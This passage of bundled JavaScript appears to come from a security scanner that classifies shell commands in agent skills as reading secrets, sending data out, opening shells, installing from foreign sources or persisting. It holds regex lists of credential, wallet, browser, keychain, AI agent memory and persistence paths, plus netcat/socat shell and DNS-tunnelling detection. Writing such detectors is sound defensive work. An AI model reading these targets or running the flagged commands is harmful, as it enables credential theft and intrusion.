    call.reading.writePath(target ?? literal(baseName(address.text)), answer, call.name, call.place);
    return NOTHING;
};
/** HTTPie, xh, aria2c, lwp-request and other programs that take an address. */
const httpClient = (call) => {
    const address = call.args.find((arg) => looksLikeAddress(arg));
    if (!address)
        return NOTHING;
    const sends = call.args.some((arg) => /^(?:POST|PUT|PATCH)$/u.test(arg.text) || /^[\w.-]{1,60}(?:=|:=|@)/u.test(arg.text)) || call.hasInput;
    const payload = [...call.args.filter((arg) => arg !== address), ...(call.hasInput ? [call.stdin] : [])];
    const answer = call.reading.request({ name: call.name, address, payload, sends: sends && call.name !== 'aria2c', flags: call.flags }, call.place);
    if (call.name !== 'aria2c' && call.name !== 'axel')
        return answer;
    const out = call.args.findIndex((arg) => arg.text === '-o');
    call.reading.writePath(call.args[out + 1] && out !== -1 ? (call.args[out + 1] ?? literal('')) : literal(baseName(address.text)), answer, call.name, call.place);
    return NOTHING;
};
/** nc, ncat, netcat: a connection; with `-e` or `-c` a shell on it. */
const netcat = (call) => {
    const parsed = parseOptions(call.args, {
        short: 'epswqioxXgGmMTV',
        long: new Set(['exec', 'sh-exec', 'lua-exec', 'source-port', 'proxy', 'wait', 'idle-timeout']),
    });
    const shell = valuesOf(parsed, 'e', 'exec', 'sh-exec', 'lua-exec')[0] ??
        (hasOption(parsed, 'c') ? parsed.operands.find((arg) => /(?:^|\/)(?:ba|z|da|k)?sh\b|cmd/u.test(arg.text)) : undefined);
    const listens = hasOption(parsed, 'l', 'listen');
    const host = listens ? undefined : parsed.operands[0];
    const facts = classifyHost(host?.text ?? '');
    const target = parsed.operands.map((operand) => operand.text).join(' ');
    if (shell) {
        note(call, 'connect-shell', { target, ...(listens ? {} : { host: facts.class }), flowsFrom: host?.origins ?? NO_ORIGINS });
        return NOTHING;
    }
    if (hasOption(parsed, 'z') || hasOption(parsed, 'h'))
        return NOTHING;
    const deed = note(call, listens ? 'listen' : call.hasInput ? 'send' : 'fetch', {
        target,
        ...(listens ? {} : { host: facts.class }),
        ...(call.hasInput ? { flags: ['body'] } : {}),
        flowsFrom: union(call.stdin.origins, originsOf(parsed.operands)),
    });
    return derived(plus(NO_ORIGINS, deed));
};
/** socat: a relay; a shell when one side is EXEC or SYSTEM and the other a network address. */
const socat = (call) => {
    const line = concat(call.args, ' ').text;
    const network = /\b(?:TCP|TCP4|TCP6|OPENSSL|SSL|UDP|SCTP)(?:-CONNECT|-LISTEN)?4?:([^\s,:]{1,200})/iu.exec(line);
    if (!network)
        return NOTHING;
    const listens = /-LISTEN|-L\b/iu.test(network[0]);
    const { class: host } = classifyHost(network[1] ?? '');
    const shell = /\b(?:EXEC|SYSTEM|SHELL):['"]?[^\s]{0,80}(?:sh\b|bash|cmd|powershell|login)/iu.test(line);
    const kind = shell ? 'connect-shell' : listens ? 'listen' : 'send';
    const deed = note(call, kind, {
        target: line,
        ...(listens ? {} : { host }),
        flags: ['body'],
        flowsFrom: union(call.stdin.origins, originsOf(call.args)),
    });
    return derived(plus(NO_ORIGINS, deed));
};
/** dig, nslookup, host, ping: an address that carries data is a way out (DNS tunnelling). */
const resolver = (call) => {
    const origins = originsOf(call.args);
    const name = call.args.find((arg) => arg.origins.length > 0) ?? call.args.find((arg) => arg.text.includes('.'));
    if (!name)
        return NOTHING;
    const facts = classifyHost(name.text.replace(/^[^.]{0,200}[}$)]\./u, ''));
    const deed = note(call, origins.length > 0 ? 'send' : 'fetch', {
        target: name.text,
        host: facts.class,
        ...(origins.length > 0 ? { flags: ['body'] } : {}),
        flowsFrom: origins,
    });
    return derived(plus(NO_ORIGINS, deed));
};
/** scp, rsync, sftp, rclone: from here to there, or from there to here. */
const copyRemote = (call) => {
    const parsed = parseOptions(call.args, { short: 'iPFoeJSl', long: new Set(['rsh', 'exclude', 'include', 'config']) });
    const operands = parsed.operands.filter((operand) => !/^(?:copy|sync|move|copyto|copyurl)$/u.test(operand.text));
    const target = operands.at(-1);
    const remote = /^(?:[^/@\s]{1,80}@)?([\w.${}-]{1,200}|\[[\da-f:]{2,45}\])::?/iu.exec(target?.text ?? '');
    if (!target || operands.length < 2)
        return NOTHING;
    if (remote && !/^[A-Za-z]:\\/u.test(target.text)) {
        const sources = operands
            .slice(0, -1)
            .map((source) => call.reading.readPath(source, call.name, call.place, hasOption(parsed, 'r', 'a') ? ['recursive'] : []));
        note(call, 'send', {
            target: target.text,
            host: classifyHost(remote[1] ?? '').class,
            flags: ['body'],
            flowsFrom: originsOf([...sources, target]),
        });
        return NOTHING;
    }
    const source = operands.find((operand) => /^[^/\s]{1,200}:/u.test(operand.text));
    if (!source)
        return NOTHING;
    const deed = note(call, 'fetch', { target: source.text, host: classifyHost(source.text.replace(/:.{0,300}$/su, '')).class });
    call.reading.writePath(target, derived(plus(NO_ORIGINS, deed)), call.name, call.place);
    return NOTHING;
};
/** ssh: a command on another machine; its input goes there. Forwarding of ports is noted as a listener. */
const ssh = (call) => {
    const parsed = parseOptions(call.args, { short: 'iplFoJLRDbcEeImOQSWw', long: new Set() });
    const host = parsed.operands[0];
    if (!host)
        return NOTHING;
    const facts = classifyHost(host.text);
    if (hasOption(parsed, 'R'))
        note(call, 'listen', { target: valuesOf(parsed, 'R')[0]?.text ?? '', host: facts.class });
    const origins = union(call.stdin.origins, originsOf(parsed.operands.slice(1)));
    const deed = note(call, call.hasInput ? 'send' : 'fetch', {
        target: host.text,
        host: facts.class,
        flowsFrom: origins,
        ...(call.hasInput ? { flags: ['body'] } : {}),
    });
    return derived(plus(NO_ORIGINS, deed));
};
/** mail, sendmail, mutt, msmtp, swaks. */
const mail = (call) => {
    const files = call.args.flatMap((arg, index) => /^-(?:a|A|-attach)$/u.test(arg.text) && call.args[index + 1]
        ? [call.reading.readPath(call.args[index + 1] ?? arg, call.name, call.place)]
        : []);
    const to = call.args.find((arg) => arg.text.includes('@'));
    note(call, 'send', {
        target: to?.text ?? '',
        host: to ? 'named' : 'variable',
        flags: ['body'],
        flowsFrom: originsOf([call.stdin, ...call.args, ...files]),
    });
    return NOTHING;
};
/** Uploads to a store of one's own choosing: aws s3 cp, gsutil cp, az storage, gh gist create. */
const cloudCopy = (call) => {
    const line = call.args.map((arg) => arg.text).join(' ');
    const secret = /\b(?:get-session-token|get-secret-value|get-parameter|print-access-token|print-identity-token|get-access-token|configure get|configure export-credentials|auth token|ecr get-login-password|secrets? (?:get|list|versions access)|get secrets?|keyvault secret show|config view --raw)\b/u;
    // A token that a tool hands out on purpose is like a variable: one secret, for the service that it belongs to.
    if (secret.test(line))
        return output(NO_ORIGINS, note(call, 'read', { subject: 'environment-variable', target: `${call.name} ${line}`.slice(0, 200) }));
    const target = call.args.at(-1);
    const uploads = /^(?:s3 (?:cp|sync|mv)|cp|rsync|storage (?:cp|blob upload)|gist create)\b/u.test(line);
    if (!uploads || !target)
        return output(originsOf(call.args), note(call, 'fetch', { target: `${call.name} ${line}`.slice(0, 200), host: 'vendor' }));
    const gist = line.startsWith('gist');
    if (!gist && !/^(?:s3|gs|az|https?):\/\//u.test(target.text))
        return output(NO_ORIGINS, note(call, 'fetch', { target: line.slice(0, 200), host: 'vendor' }));
    const sources = call.args.filter((arg) => arg !== target || gist).filter((arg) => /[/.~$]/u.test(arg.text) && !arg.text.startsWith('-'));
    const read = sources.map((source) => call.reading.readPath(source, call.name, call.place));
    note(call, 'send', {
        target: target.text,
        host: gist ? 'paste' : 'variable',
        flags: ['body'],
        flowsFrom: originsOf([call.stdin, ...read]),
    });
    return NOTHING;
};

;// CONCATENATED MODULE: ./lib/skills/code/shell/commands/packages.js



const VALUED = {
    short: 'rcitfC',
    long: new Set('index-url extra-index-url find-links requirement constraint target prefix registry trusted-host python with from spec index default-index root git branch tag rev version source prefix-path cwd filter package'.split(' ')),
};
const INSTALL_VERBS = {
    pip: /^(?:install|download|wheel)$/u,
    uv: /^(?:add|install|tool|pip)$/u,
    poetry: /^add$/u,
    conda: /^(?:install|create)$/u,
    npm: /^(?:i|install|add|ci|exec|x|init|create)$/u,
    pnpm: /^(?:i|install|add|dlx|exec|create)$/u,
    yarn: /^(?:add|install|dlx|global|create)$/u,
    bun: /^(?:add|install|i|x|create)$/u,
    gem: /^install$/u,
    cargo: /^(?:install|add)$/u,
    go: /^(?:install|get)$/u,
    brew: /^(?:install|tap|reinstall)$/u,
    apt: /^(?:install|add)$/u,
    claude: /^(?:plugin|mcp|skill)s?$/u,
};
const REGISTRIES = /^https?:\/\/(?:[\w-]{1,40}\.){0,2}(?:pypi\.org|pythonhosted\.org|npmjs\.org|npmjs\.com|yarnpkg\.com|rubygems\.org|crates\.io|download\.pytorch\.org|pypi\.nvidia\.com|jfrog\.io|pkg\.dev|pkgs\.dev\.azure\.com|codeartifact\.[\w-]{1,30}\.amazonaws\.com|proxy\.golang\.org|npm\.pkg\.github\.com|conda\.anaconda\.org|mirrors?\.[\w.-]{1,60}|pypi\.tuna\.tsinghua\.edu\.cn|registry\.npmmirror\.com)(?:[/:]|$)/iu;
const FOREIGN = /^(?:git\+|git:\/\/|https?:\/\/|hg\+|svn\+|ssh:\/\/)|@\s?(?:git\+|https?:\/\/)|\.(?:tgz|tar\.gz|whl|zip)$/iu;
/** Package managers that install by a verb, and runners that install and start in one step. */
const packages_packages = (call) => {
    const parsed = parseOptions(call.args, VALUED);
    const manager = managerOf(call.name);
    const [verb, ...rest] = parsed.operands;
    const pattern = INSTALL_VERBS[manager];
    if (!verb || !pattern?.test(verb.text)) {
        note(call, 'execute', { target: commandLine(call), flowsFrom: originsOf(call.args) });
        return NOTHING;
    }
    const inner = /^(?:pip|tool|global|plugin|mcp|skill)s?$/u.test(verb.text) ? rest.slice(1) : rest;
    installs(call, manager, inner, parsed);
    return NOTHING;
};
/** npx, uvx, pipx run, bunx, pnpm dlx: a package that is fetched and started. */
const runner = (call) => {
    const parsed = parseOptions(call.args, {
        short: 'pc',
        long: new Set(['package', 'from', 'with', 'python', 'call', 'spec', 'index-url']),
    });
    const named = valuesOf(parsed, 'p', 'package', 'from', 'spec');
    const operand = parsed.operands.find((arg) => arg.text !== 'run' && arg.text !== 'install');
    installs(call, call.name, named.length > 0 ? named : operand ? [operand] : [], parsed);
    note(call, 'execute', { target: commandLine(call), flowsFrom: originsOf(call.args) });
    return NOTHING;
};
function managerOf(name) {
    if (/^pip[\d.]*$/u.test(name))
        return 'pip';
    if (/^(?:apt-get|apt|yum|dnf|apk|pacman|zypper)$/u.test(name))
        return 'apt';
    if (/^(?:mamba|micromamba)$/u.test(name))
        return 'conda';
    return name;
}
function installs(call, manager, targets, parsed) {
    const index = valuesOf(parsed, 'index-url', 'extra-index-url', 'i', 'registry', 'find-links', 'f', 'default-index', 'index', 'source').find((value) => /^https?:/u.test(value.text) && !REGISTRIES.test(value.text));
    const flags = [];
    if (index)
        flags.push('foreign-source');
    if (hasOption(parsed, 'trusted-host') || index?.text.startsWith('http:'))
        flags.push('insecure');
    if (targets.length === 0) {
        note(call, 'install', { target: valuesOf(parsed, 'r', 'requirement')[0]?.text ?? '', flags });
        return;
    }
    for (const target of targets.slice(0, 60)) {
        const foreign = FOREIGN.test(target.text) ||
            (/^(?:npm|pnpm|yarn|npx|bun)$/u.test(manager) && /^(?:github:|gitlab:|bitbucket:|gist:)/u.test(target.text));
        const host = index ?? (foreign ? target : undefined);
        const address = host ? /https?:\/\/[^\s]{1,300}|ssh:\/\/[^\s]{1,300}/u.exec(host.text)?.[0] : undefined;
        call.reading.note({
            kind: 'install',
            start: target.start,
            end: target.end,
            name: manager,
            target: target.text,
            ...(address === undefined ? {} : { host: classifyHost(address).class }),
            flags: [...call.flags, ...flags, ...(foreign && !flags.includes('foreign-source') ? ['foreign-source'] : [])],
            flowsFrom: target.origins,
        });
    }
}
/** `git`: clones bring code here, pushes take it away, hooks and aliases start it later. */
const git = (call) => {
    const parsed = parseOptions(call.args, {
        short: 'Ccbmou',
        long: new Set(['branch', 'depth', 'message', 'origin', 'git-dir', 'work-tree']),
    });
    const [verb, ...rest] = parsed.operands;
    const line = commandLine(call);
    if (verb?.text === 'clone') {
        const address = rest[0];
        const folder = rest[1]?.text ?? /([^/:]{1,100}?)(?:\.git)?\/?$/u.exec(address?.text ?? '')?.[1] ?? '';
        const deed = note(call, 'fetch', {
            target: address?.text ?? '',
            host: classifyHost((address?.text ?? '').replace(/^git@([^:]{1,200}):/u, 'ssh://$1/')).class,
        });
        if (folder !== '')
            call.reading.files.set(`${folder}/`, { origins: deed < 0 ? [] : [deed], text: undefined });
    }
    else if (verb?.text === 'push')
        note(call, 'send', {
            target: rest[0]?.text ?? 'origin',
            host: /^(?:https?|ssh|git@)/u.test(rest[0]?.text ?? '') ? classifyHost(rest[0]?.text ?? '').class : 'variable',
        });
    else if (verb?.text === 'config') {
        const key = rest[0]?.text ?? '';
        if (/^(?:core\.(?:hookspath|fsmonitor|sshcommand|editor|pager)|init\.templatedir|credential\.helper|url\..{1,200}\.insteadof)$/iu.test(key) &&
            rest.length > 1) {
            note(call, 'persist', {
                persistence: 'git-hook',
                target: line,
                ...(hasOption(parsed, 'global', 'system') ? { flags: ['recursive'] } : {}),
            });
        }
        else
            note(call, 'execute', { target: line });
    }
    else
        note(call, 'execute', { target: line, flowsFrom: originsOf(call.args) });
    return NOTHING;
};

;// CONCATENATED MODULE: ./lib/skills/code/shell/commands/powershell-names.js


/** Commands of Windows that stand in shell text (documentation often labels them so) are read as PowerShell, with their input. */
const powershellInShell = (call) => {
    const piped = call.hasInput ? '$__input | ' : '';
    call.reading.nested('powershell', { ...literal(piped + commandLine(call)), origins: call.stdin.origins }, call.place);
    return NOTHING;
};

;// CONCATENATED MODULE: ./lib/skills/code/path-lists.js
/** The start of the path, or a border between segments. */
const at = String.raw `(?:^|[/\s=@:{}])`;
const means = (meaning, ...sources) => ({
    path: new RegExp(`${at}(?:${sources.join('|')})`, 'iu'),
    means: meaning,
});
/** Paths by what a reader gets. The first match counts. */
const SUBJECT_PATHS = [
    means('file', String.raw `\.ssh/(?:known_hosts|[\w.-]{1,80}\.pub)$`, String.raw `\.env\.(?:example|sample|template|dist|defaults?)\b`),
    means('private-key', String.raw `\.ssh(?:/?$|/\*|/(?:id_|identity|config$|authorized_keys|[\w.-]{0,80}key))`, String.raw `\.ssh/[\w.*-]{1,80}`, String.raw `id_(?:rsa|dsa|ecdsa|ed25519)(?:_sk)?$`, String.raw `\.gnupg(?:/|$)`, String.raw `etc/ssh/ssh_host_`, String.raw `[\w*.-]{1,80}\.(?:ppk|p12|pfx|jks)$`, String.raw `\*\.(?:pem|key)$`),
    means('wallet', String.raw `wallet\.dat$`, String.raw `\.(?:bitcoin|ethereum|litecoin|dogecoin|zcash|monero|electrum|exodus|atomic|solana)/`, String.raw `\.config/solana(?:/id\.json|/?$)`, String.raw `\.foundry/keystores`, String.raw `(?:Exodus|Electrum|Ledger Live|Trezor Suite|Atomic|Coinomi|Guarda|Bitcoin|Ethereum|Monero|Binance|Phantom|MetaMask)/(?:exodus\.wallet|wallets?|Local Storage|leveldb|keystore)`, String.raw `exodus\.wallet`, String.raw `(?:Local Extension Settings|Sync Extension Settings|IndexedDB/chrome-extension_?)/?[a-p]{32}`, String.raw `nkbihfbeogaeaoehlefnkodbefgpgknn`, String.raw `(?:metamask|phantom|keystore/UTC--)`, String.raw `(?:seed[_-]?phrase|mnemonic|recovery[_-]?phrase)s?\.(?:txt|json|key)`),
    means('browser-store', String.raw `(?:Login Data|Web Data|Local State|key[34]\.db|logins\.json|cookies\.sqlite|signons\.sqlite|Cookies\.binarycookies)(?: For Account)?(?:$|[-/*])`, String.raw `(?:Google/Chrome|\.config/(?:google-chrome|chromium)|BraveSoftware(?:/Brave-Browser)?|Microsoft/Edge|Vivaldi|Opera Software|Mozilla/Firefox|\.mozilla/firefox|Firefox/Profiles)(?:/User Data)?(?:/(?:Default|Profile[ \w*]{0,12}))?(?:/\*{1,2})?/?$`, String.raw `Library/(?:Safari|Cookies)(?:/|$)`),
    means('keychain', String.raw `Library/Keychains`, String.raw `login\.keychain(?:-db)?`, String.raw `\.local/share/keyrings`, String.raw `Microsoft/(?:Credentials|Vault|Protect)(?:/|$)`, String.raw `\.password-store(?:/|$)`, String.raw `[\w.-]{1,60}\.(?:kdbx|agilekeychain|opvault|1pux)$`),
    means('password-database', String.raw `etc/(?:shadow|gshadow|master\.passwd|sudoers)\b`, String.raw `System32/config/(?:SAM|SYSTEM|SECURITY)\b`, String.raw `ntds\.dit$`, String.raw `var/db/dslocal`),
    means('environment', String.raw `proc/(?:self|\d+|\*|[$\w{}]{1,20})/environ\b`),
    means('agent-settings', String.raw `\.(?:claude|codex|gemini|cursor|openclaw|clawdbot|moltbot|continue|windsurf|codeium|copilot|kiro|aider|opencode|qwen)/(?:\.credentials\.json|credentials|auth\.json|settings[\w.]*\.json|config\.(?:toml|json|ya?ml)|mcp[\w.]*\.json|hooks|openclaw\.json|oauth[\w.]*\.json|\.env|google_accounts\.json)`, String.raw `\.claude\.json$`, String.raw `(?:claude_desktop_config|mcp_settings|mcp_config)\.json$`, String.raw `\.mcp\.json$`, String.raw `\.config/(?:github-copilot|claude|opencode)/`, String.raw `\.aider\.conf`),
    means('agent-memory', String.raw `\.(?:claude|codex|openclaw|clawdbot|moltbot|gemini|cursor|windsurf)/(?:projects|sessions|history|memory|memories|conversations|transcripts|todos|file-history|agents/[\w.*-]{1,60}/sessions|workspace/(?:MEMORY|SOUL|USER|IDENTITY)|[\w-]{0,40}history\.jsonl)`, String.raw `(?:MEMORY|SOUL|IDENTITY)\.md$`, String.raw `\.(?:openclaw|clawdbot|moltbot)/?$`, String.raw `\.claude/?$`),
    means('credentials', String.raw `\.aws(?:/(?:credentials|config|sso|cli)|/?$|/\*)`, String.raw `\.config/gcloud`, String.raw `gcloud/(?:credentials\.db|access_tokens\.db|legacy_credentials)`, String.raw `application_default_credentials\.json`, String.raw `\.azure(?:/|$)`, String.raw `\.kube/config`, String.raw `\.docker/config\.json`, String.raw `\.(?:npmrc|pypirc|netrc|pgpass|my\.cnf|git-credentials|vault-token|s3cfg|boto|terraformrc|yarnrc)$`, String.raw `_netrc$`, String.raw `\.config/(?:gh/hosts\.yml|hub|doctl|heroku|op|rclone|git/credentials|configstore|fly|stripe|netlify|vercel)`, String.raw `\.terraform\.d/credentials`, String.raw `\.(?:cargo|gem|m2|composer|subversion/auth|oci|fly|railway|databrickscfg|snowsql|huggingface|cache/huggingface)/(?:credentials|settings\.xml|auth\.json|config|token)`, String.raw `var/run/secrets/(?:kubernetes\.io|eks)`, String.raw `etc/(?:kubernetes/admin\.conf|krb5\.keytab)`, String.raw `FileZilla/(?:sitemanager|recentservers)\.xml`, String.raw `\.config/filezilla`, String.raw `(?:Slack|discord|Signal|Telegram Desktop|Microsoft/Teams)/(?:Local Storage|leveldb|Cookies|tdata|storage)`),
    means('messages', String.raw `Library/Messages/chat\.db`, String.raw `Library/Mail(?:/|$)`, String.raw `\.thunderbird(?:/|$)`, String.raw `var/mail/`, String.raw `Signal/(?:sql|config\.json)`),
    means('shell-history', String.raw `\.(?:bash|zsh|sh|psql|mysql|python|node_repl|irb|sqlite|rediscli|ksh)_history\b`, String.raw `\.(?:zhistory|history|lesshst|viminfo)$`, String.raw `\.local/share/fish/fish_history`, String.raw `ConsoleHost_history\.txt`),
    means('dotenv', String.raw `\.env(?:\.(?:local|production|prod|development|dev|staging|test|[\w-]{1,20}))?(?:$|[*])`),
    means('personal-files', String.raw `(?:~|\$\{?HOME\}?|%USERPROFILE%|/(?:home|Users)/[^/]{1,64})/?(?:Documents|Desktop|Downloads|Pictures|Library)?/?(?:\*{0,2})$`),
];
/** Paths by what a writer brings about. The first match counts. */
const PERSISTENCE_PATHS = [
    means('shell-startup', String.raw `\.(?:bashrc|bash_profile|bash_login|bash_logout|bash_aliases|profile|zshrc|zshenv|zprofile|zlogin|kshrc|cshrc|tcshrc|xprofile|xinitrc|xsession(?:rc)?|inputrc|envrc|zsh_aliases|aliases)$`, String.raw `\.config/fish/(?:config\.fish|conf\.d/)`, String.raw `etc/(?:profile|bash\.bashrc|bashrc|zsh/|zshrc|zshenv|environment)(?:$|/|\.d/)`, String.raw `etc/profile\.d/`, String.raw `(?:WindowsPowerShell|PowerShell|\.config/powershell)/[\w.]{0,60}profile\.ps1$`, String.raw `\$PROFILE\b`),
    means('cron', String.raw `etc/cron(?:tab|\.(?:d|hourly|daily|weekly|monthly))`, String.raw `var/spool/cron`, String.raw `var/spool/at`),
    means('launch-agent', String.raw `Library/Launch(?:Agents|Daemons)`),
    means('systemd', String.raw `(?:etc|usr/lib|lib|run)/systemd/(?:system|user)`, String.raw `\.config/systemd/user`, String.raw `\.local/share/systemd/user`, String.raw `[\w@.-]{1,80}\.(?:service|timer)$`),
    means('init-script', String.raw `etc/(?:rc\.local|init\.d|rc\d?\.d|inittab|ld\.so\.preload|modules-load\.d|udev/rules\.d|xdg/autostart|update-motd\.d)`, String.raw `\.config/autostart`),
    means('startup-folder', String.raw `Start Menu/Programs/Startup`, String.raw `Programs/Startup/`),
    means('run-key', String.raw `(?:Software/)?Microsoft/Windows(?: NT)?/CurrentVersion/(?:Run|RunOnce|Winlogon|Image File Execution Options|Policies/Explorer/Run)\b`),
    means('authorized-keys', String.raw `\.ssh/authorized_keys`, String.raw `administrators_authorized_keys`),
    means('sudoers', String.raw `etc/sudoers`, String.raw `etc/pam\.d/`),
    means('account', String.raw `etc/(?:passwd|shadow|group)$`),
    means('git-hook', String.raw `\.git/hooks/(?!.{0,80}\.sample$)`, String.raw `\.githooks/`, String.raw `\.husky/(?!_)`),
    means('name-resolution', String.raw `etc/(?:hosts|resolv\.conf)$`, String.raw `drivers/etc/hosts$`),
    means('agent-settings', String.raw `\.(?:claude|codex|gemini|cursor|openclaw|clawdbot|moltbot|windsurf|codeium|kiro|opencode|qwen|continue)/(?:settings[\w.]*\.json|config\.(?:toml|json|ya?ml)|mcp[\w.]*\.json|hooks(?:/|\.json|$)|openclaw\.json|plugins/)`, String.raw `\.claude\.json$`, String.raw `(?:claude_desktop_config|mcp_settings|mcp_config)\.json$`, String.raw `\.mcp\.json$`),
    means('agent-memory', String.raw `(?:CLAUDE|CLAUDE\.local|AGENTS|AGENTS\.override|GEMINI|MEMORY|SOUL|IDENTITY|HEARTBEAT|BOOTSTRAP)\.md$`, String.raw `\.(?:cursorrules|windsurfrules|clinerules|roorules)$`, String.raw `\.cursor/rules`, String.raw `copilot-instructions\.md$`, String.raw `\.(?:claude|codex|openclaw|clawdbot)/(?:memory|memories|rules)(?:/|$)`, String.raw `\.(?:claude|codex)/projects/.{1,120}memory`),
    means('other-skill', String.raw `\.(?:claude|codex|agents|cursor|gemini|openclaw|clawdbot|opencode|kiro|windsurf|github)/(?:workspace/)?(?:skills|agents|commands)(?:/|$)`),
    means('editor-task', String.raw `\.vscode/(?:tasks|settings|launch)\.json`, String.raw `Code/User/(?:settings|tasks)\.json`, String.raw `\.idea/runConfigurations`, String.raw `\.devcontainer/`),
    means('python-startup', String.raw `(?:sitecustomize|usercustomize)\.py$`, String.raw `site-packages/[\w.-]{1,80}\.pth$`, String.raw `\.pythonrc(?:\.py)?$`),
    means('package-config', String.raw `(?:^|/)\.npmrc$`, String.raw `pip/pip\.conf`, String.raw `\.pip/pip\.conf`, String.raw `pip\.ini$`, String.raw `\.gitconfig$`, String.raw `\.config/git/config`, String.raw `\.cargo/config`, String.raw `\.ssh/(?:config|rc)$`),
];

;// CONCATENATED MODULE: ./lib/skills/code/classify-path.js

const HOME = /^(?:~(?=[/\\]|$)|\$\{?HOME\}?|\$\{?env:(?:USERPROFILE|HOME)\}?|%(?:USERPROFILE|HOMEPATH|HOME)%|\/(?:home|Users)\/[^/\s]{1,64}|\/root(?=\/|$)|[A-Za-z]:\/Users\/[^/\s]{1,64}|\{(?:home|Path\.home\(\)|os\.homedir\(\))\})/u;
const SYSTEM = /^(?:\/(?:etc|usr|bin|sbin|lib|lib64|boot|var|opt|System|Library|private\/etc)(?:\/|$)|[A-Za-z]:\/(?:Windows|Program Files)|%(?:SystemRoot|WINDIR|ProgramFiles)%|\$\{?env:(?:SystemRoot|WINDIR|ProgramFiles))/iu;
const TEMPORARY = /^(?:\/(?:private\/)?tmp(?:\/|$)|\/(?:private\/)?var\/(?:tmp|folders)(?:\/|$)|\/dev\/shm(?:\/|$)|\$\{?TMPDIR|\$\{?env:TE?MP\b|%TE?MP%|\{?tempfile\.gettempdir|[A-Za-z]:\/Windows\/Temp)/iu;
/**
 * What a path means to whoever reads or writes it. The path may be written for any shell: `~`, `$HOME`, `%APPDATA%`, `${env:…}`
 * and back slashes are understood, other variables are left as unknown parts.
 */
function classifyPath(path) {
    const plain = normalised(path);
    const subject = firstMatch(SUBJECT_PATHS, plain);
    const persistence = firstMatch(PERSISTENCE_PATHS, plain);
    return { ...(subject === undefined ? {} : { subject }), ...(persistence === undefined ? {} : { persistence }), area: areaOf(plain) };
}
/** One spelling for all systems: forward slashes, no quotes, no `file://`, no doubled slashes, no `.` segments. */
function normalised(path) {
    const plain = path
        .slice(0, 1024)
        .trim()
        .replace(/^file:\/\//u, '')
        .replace(/\\/gu, '/')
        .replace(/["'`]/gu, '')
        .replace(/\/{2,}/gu, '/')
        .replace(/\/(?:\.\/)+/gu, '/');
    return plain;
}
function firstMatch(patterns, path) {
    for (const pattern of patterns)
        if (pattern.path.test(path))
            return pattern.means;
    return undefined;
}
function areaOf(path) {
    if (/^\/(?:\*|\.\*)?$/u.test(path) || /^[A-Za-z]:\/(?:\*(?:\.\*)?)?$/u.test(path))
        return 'root';
    if (/^\/dev\/(?!null\b|zero\b|std|tty|tcp\/|udp\/|fd\/|shm\b|u?random\b)/u.test(path))
        return 'device';
    if (TEMPORARY.test(path))
        return 'temporary';
    const home = HOME.exec(path);
    if (home)
        return /^\/?(?:\*|\.\*|\.)?$/u.test(path.slice(home[0].length)) ? 'home' : 'below-home';
    return SYSTEM.test(path) ? 'system' : 'unknown';
}

;// CONCATENATED MODULE: ./lib/skills/code/shell/commands/system.js




/** `rm`, `shred`, `srm`, `unlink`, `rmdir`. */
const remove = (call) => {
    const parsed = parseOptions(call.args, { short: call.name === 'shred' ? 'ns' : '', long: new Set(['iterations', 'size']) });
    const flags = hasOption(parsed, 'r', 'R', 'recursive') ? ['recursive'] : [];
    if (call.name === 'shred' || call.name === 'srm')
        flags.push('irreversible');
    for (const path of parsed.operands.slice(0, 100)) {
        const history = classifyPath(path.text).subject === 'shell-history' || /^\/var\/log(?:\/|$)/u.test(path.text);
        const own = /^["']?\$(?:0|\{0\}|BASH_SOURCE|\{BASH_SOURCE)/u.test(path.text);
        note(call, history || own ? 'conceal' : 'delete', { target: path.text, flags, flowsFrom: path.origins });
    }
    return NOTHING;
};
/** `dd`: copies, and overwrites devices. */
const dd = (call) => {
    const operand = (name) => {
        const found = call.args.find((arg) => arg.text.startsWith(`${name}=`));
        return found ? { ...found, text: found.text.slice(name.length + 1) } : undefined;
    };
    const [from, to] = [operand('if'), operand('of')];
    const content = from && !/^\/dev\/(?:zero|u?random|null)/u.test(from.text) ? call.reading.readPath(from, 'dd', call.place) : call.stdin;
    if (!to)
        return content;
    const image = /\.(?:iso|img|raw|dmg)(?:\.\w{1,4})?$/iu.test(from?.text ?? '');
    if (classifyPath(to.text).area === 'device' && !image)
        note(call, 'delete', { target: to.text, flags: ['irreversible'] });
    else if (!/^\/dev\/(?:null|shm)/u.test(to.text))
        call.reading.writePath(to, content, 'dd', call.place);
    return NOTHING;
};
/** `mkfs`, `wipefs`, `fdisk`, `diskutil eraseDisk`, `format`. */
const wipe = (call) => {
    const line = commandLine(call);
    if (call.name === 'diskutil' && !/erase|zero|secure/iu.test(line))
        return NOTHING;
    const device = call.args.find((arg) => /^\/dev\/|^[A-Za-z]:$/u.test(arg.text));
    if (device || call.name === 'diskutil')
        note(call, 'delete', { target: device?.text ?? line, flags: ['irreversible'] });
    return NOTHING;
};
/** `chmod`, `chown`, `chattr`, `xattr`. */
const permission = (call) => {
    const [mode, ...files] = call.args.filter((arg) => !/^-[RvfcE]+$/u.test(arg.text));
    if (call.name === 'xattr') {
        if (/-[a-z]*[cd]/u.test(call.args[0]?.text ?? ''))
            note(call, 'weaken', { target: commandLine(call), flags: call.args.some((arg) => arg.text.includes('quarantine')) ? [] : [] });
        return NOTHING;
    }
    const setuid = /^[0-7]?[4-7][0-7]{3}$|[ug]\+[rwx]*s/u.test(mode?.text ?? '');
    for (const file of files.slice(0, 50)) {
        const origins = call.reading.files.get(file.text)?.origins ?? NO_ORIGINS;
        note(call, 'permission', {
            target: `${mode?.text ?? ''} ${file.text}`,
            flags: setuid ? ['privileged'] : [],
            flowsFrom: union(file.origins, origins),
        });
    }
    return NOTHING;
};
/** `crontab`: from its input or a file; `-l` prints, `-r` removes. */
const crontab = (call) => {
    const parsed = parseOptions(call.args, { short: 'u', long: new Set() });
    if (hasOption(parsed, 'l'))
        return UNKNOWN;
    if (hasOption(parsed, 'r')) {
        note(call, 'delete', { target: 'crontab' });
        return NOTHING;
    }
    if (hasOption(parsed, 'e', 'h', 'V') || (!call.hasInput && parsed.operands.length === 0))
        return NOTHING;
    const file = parsed.operands.find((operand) => operand.text !== '-');
    const written = file ? call.reading.files.get(file.text) : undefined;
    note(call, 'persist', {
        persistence: 'cron',
        target: (call.stdin.text || file?.text) ?? '',
        flowsFrom: union(call.stdin.origins, written?.origins ?? NO_ORIGINS),
    });
    return NOTHING;
};
/** A command that registers something when its line matches. */
function registers(persistence, when) {
    return (call) => {
        const line = commandLine(call);
        if (when.test(line))
            note(call, 'persist', { persistence, target: line, flowsFrom: originsOf([call.stdin, ...call.args]) });
        else
            note(call, 'execute', { target: line, flowsFrom: originsOf(call.args) });
